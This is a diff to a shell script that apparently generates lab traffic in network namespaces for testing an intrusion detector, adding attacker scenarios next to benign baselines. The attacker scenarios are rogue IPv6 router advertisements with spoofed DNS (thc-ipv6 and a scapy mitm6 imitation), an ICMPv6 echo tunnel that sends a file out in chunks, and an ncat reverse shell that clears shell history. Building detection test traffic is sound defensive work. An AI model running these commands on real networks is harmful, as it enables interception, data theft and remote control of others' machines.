@@ -3168,6 +3168,87 @@ scn_bettercap_dns_spoof_alone() {
 		-eval "set dns.spoof.domains *.bank.com,bank.com; set dns.spoof.address $NET.66; set dns.spoof.all true; dns.spoof on" || true
 	wait $q || true
 }
+# Session 37 (det37b): rogue router advertisements on a LAN with no IPv6
+# router (review 36a P5: an IPv4-only office, mitm6's home ground), and
+# a router being installed there, which is legitimate.
+# A workstation joins (its kernel solicits routers at link-up), then
+# atk6-fake_router26 advertises a prefix and a DNS server with lifetime
+# 2048 (thc's hop limit 255).
+scn_v6_fake_router26_host_alone() {
+	inns evil ip link set eth0 down; inns evil ip link set eth0 up
+	sleep 3
+	inns evil timeout 10 atk6-fake_router26 -A "$ULA:66::/64" -D "$ULA::66" eth0 || true
+	inns evil ip addr add "$ULA::66/64" dev eth0 nodad 2>/dev/null || true
+}
+# A mitm6-like advertisement written with scapy (hop limit 64, lifetime
+# 1800, a prefix and itself as DNS server) from a workstation that has
+# just leased its address from the gateway's DHCP server (busybox udhcpc).
+scn_v6_ra_rdnss_dhcp_client_scapy() {
+	inns evil busybox udhcpc -i eth0 -n -q -f -s /bin/true || true
+	scapy evil 'll = "fe80::ba27:ebff:fe00:66"
+for i in range(5):
+    sendp(Ether(src=mac, dst="33:33:00:00:00:01")/IPv6(src=ll, dst="ff02::1", hlim=255)/ICMPv6ND_RA(chlim=64, routerlifetime=1800)/
+          ICMPv6NDOptSrcLLAddr(lladdr=mac)/ICMPv6NDOptPrefixInfo(prefix="'$ULA':66::", prefixlen=64, validlifetime=7200, preferredlifetime=3600)/
+          ICMPv6NDOptRDNSS(dns=[ll], lifetime=1800), iface="eth0")
+    time.sleep(2)'
+}
+# Benign: PC2 becomes the LAN's first IPv6 router (forwarding on, radvd:
+# a prefix, RDNSS and DNSSL every 3-5 s); its link bounces (a router's
+# kernel solicits no routers), the PC takes an address from the prefix
+# and pings PC2 (PC2's neighbour advertisements carry the Router flag).
+# radvd's last advertisements on exit say lifetime 0 with RDNSS lifetime 0.
+scn_v6_benign_first_router_radvd() {
+	inns pc2 sysctl -qw net.ipv6.conf.all.forwarding=1
+	inns pc2 ip link set eth0 down; inns pc2 ip link set eth0 up
+	inns pc2 ip addr add "$ULA::11/64" dev eth0 nodad 2>/dev/null || true
+	printf 'interface eth0 {\n\tAdvSendAdvert on;\n\tMinRtrAdvInterval 3;\n\tMaxRtrAdvInterval 5;\n\tprefix %s:11::/64 { };\n\tRDNSS %s::11 { };\n\tDNSSL lan { };\n};\n' "$ULA" "$ULA" >"$tmp/radvd.conf"
+	inns pc2 radvd -C "$tmp/radvd.conf" -p "$tmp/radvd.pid" -m stderr # forks; its pid file names it
+	sleep 4
+	inns pc rdisc6 -1 eth0 || true
+	sleep 3
+	inns pc ping -6 -q -c 5 -i 0.5 "$ULA::11" || true
+	sleep 4
+	kill "$(cat "$tmp/radvd.pid")" 2>/dev/null || true
+	sleep 1
+	inns pc ip -6 addr flush dev eth0 scope global dynamic 2>/dev/null || true
+	inns pc2 sysctl -qw net.ipv6.conf.all.forwarding=0
+}
+# ICMPv6 echo tunnel (det37b): a Python raw-socket client on the PC sends
+# a 35 kB text file (the GPL) in 480-byte chunks inside echo requests to
+# the NAS's ULA (an exfiltration through ping -6's shape); the NAS's
+# kernel echoes.
+scn_icmp6_tunnel_python() {
+	inns pc "$py" -c 'import socket, struct, time
+s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+data = open("/usr/share/common-licenses/GPL-3", "rb").read()
+for seq in range(60):
+    chunk = data[seq * 480:(seq + 1) * 480].ljust(480, b"\0")
+    s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0x5137, seq) + chunk, ("'$ULA'::30", 0))
+    time.sleep(0.1)'
+	sleep 1
+}
+# Benign ICMPv6: ping -6 -s 1400 (60 rounds), -s 65000 (fragmented), path
+# MTU probes of shrinking sizes, neighbour discovery between them.
+scn_benign_icmp6_pings() {
+	inns pc ping -6 -q -c 60 -i 0.05 -s 1400 "$ULA::30" || true
+	inns pc ping -6 -q -c 5 -i 0.3 -s 65000 "$ULA::30" || true
+	for sz in 1452 1400 1300 1200 1000 800; do inns pc ping -6 -q -M do -c 2 -i 0.1 -s $sz "$ULA::30" || true; done
+	inns pc2 ping -6 -q -c 40 -i 0.05 -s 200 "$ULA::30" || true
+	sleep 1
+}
+# Session 37 (det37b): a reverse shell whose only tell is dash's bare
+# prompt "# " (2 bytes): sh +m -i (no job control, so no "can't access
+# tty" banner) over ncat --sh-exec, the operator typing commands that
+# print nothing (cd, export, a download into a file), each answered by
+# the prompt alone.
+scn_revshell_dash_bare_prompt() {
+	(sleep 1.5; echo 'cd /tmp'; sleep 0.7; echo 'export HISTFILE=/dev/null'; sleep 0.7; echo 'umask 077'; sleep 0.7; echo exit; sleep 1) |
+		inns evil timeout 10 ncat -l 4449 >"$tmp/operator.4449" 2>&1 &
+	local op=$!
+	sleep 0.5
+	inns nas timeout 8 ncat "$NET.66" 4449 --sh-exec 'exec sh +m -i 2>&1' || true
+	wait $op || true
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
